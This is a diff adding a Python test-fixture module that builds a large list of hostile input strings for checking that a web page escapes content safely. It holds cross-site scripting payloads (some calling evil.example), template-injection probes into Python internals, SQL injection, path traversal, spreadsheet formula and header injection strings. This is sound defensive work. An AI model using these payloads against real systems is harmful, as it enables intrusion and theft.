@@ -1,0 +1,106 @@
+"""Texts that a careless page would obey: as names of objects, as captions, as values of tags, as searches."""
+
+from itertools import product
+
+_CALLS = ("alert(1)", "pwned(1)", "window.__ran.push(1)", "fetch('//evil.example/x')", "top.location='//evil.example'")
+_ELEMENTS = (
+    "<script>{}</script>",
+    "<img src=x onerror={}>",
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<body onload={}>",
+    "<iframe srcdoc='<script>{}</script>'>",
+    "<details open ontoggle={}>",
+    "<input autofocus onfocus={}>",
+    "<video><source onerror={}>",
+    "<math><mtext><script>{}</script>",
+    "<a href=javascript:{}>x</a>",
+    "<form action=javascript:{}><button>x",
+    "<object data=javascript:{}>",
+    "<style>@import 'javascript:{}'</style>",
+    "<marquee onstart={}>",
+    "<template><script>{}</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror={}>'>",
+    "<!--><script>{}</script>-->",
+    "<div hx-get='/x' hx-trigger='load' hx-on::load={}>",
+    "<button hx-vals='js:{}'>",
+)
+_ESCAPES = (
+    '" onmouseover={} x="',
+    "' autofocus onfocus={} x='",
+    '"><script>{}</script>',
+    "'><script>{}</script>",
+    "</title><script>{}</script>",
+    "</textarea><script>{}</script>",
+    "</pre><script>{}</script>",
+    "</script><script>{}</script>",
+    "`-{}-`",
+    "';{};//",
+    '\\";{};//',
+    "javascript:{}",
+    "data:text/html,<script>{}</script>",
+    "java\tscript:{}",
+    "]]><script>{}</script>",
+    "--><script>{}</script>",
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "&#60;script&#62;{}&#60;/script&#62;",
+    "%3Cscript%3E{}%3C/script%3E",
+    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
+)
+_TEMPLATES = (
+    "{{ 7*7 }}",
+    "{{ config }}",
+    "{{ self.__init__.__globals__ }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "{%raw%}{{ 1 }}{%endraw%}",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "{{constructor.constructor('pwned(1)')()}}",
+    "{# a comment #}",
+    "{{ request.app.state.site.settings }}",
+    "@{7*7}",
+    "[[7*7]]",
+    "{{7*'7'}}",
+)
+_CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(1, 9), 0xB, 0xC, *range(0xE, 0x20), 0x7F, *range(0x80, 0xA0)))
+_ODD = (
+    *(
+        f"photo{chr(code)}gpj.exe"
+        for code in (0x61C, 0x200B, 0x200E, 0x200F, *range(0x2028, 0x202F), *range(0x2060, 0x2070), 0xFEFF)
+    ),
+    "\x1b[31mred\x1b]0;owned\x07",
+    "new\nline\r\nSet-Cookie: owned=1",
+    "tab\there",
+    "../../../../etc/passwd",
+    "..\\..\\windows\\system32",
+    "//evil.example/x",
+    "?q=x&cursor=y#fragment",
+    "%00%0a%2e%2e%2f",
+    "'; DROP TABLE search; --",
+    '" OR 1=1 --',
+    "=cmd|' /C calc'!A0",
+    "https://evil.example/",
+    "a" * 900,
+    "\U0001f3f4\u200d\u2620\ufe0f",
+    "ﷺ" * 20,
+    "Z\u0351\u0352\u0353\u0354\u0355" * 10,
+    "京都の桜",
+    "עברית و العربية",
+    "&amp;&lt;&gt;&quot;&#39;",
+    "<",
+    ">",
+    "&",
+    "<b>bold</b>",
+    "<!doctype html><html><head><meta http-equiv=refresh content=0;url=//evil.example>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+)
+
+STRINGS: tuple[str, ...] = (
+    *(form.replace("{}", call) for form, call in product((*_ELEMENTS, *_ESCAPES), _CALLS)),
+    *_TEMPLATES,
+    *_CONTROLS,
+    *_ODD,
+)
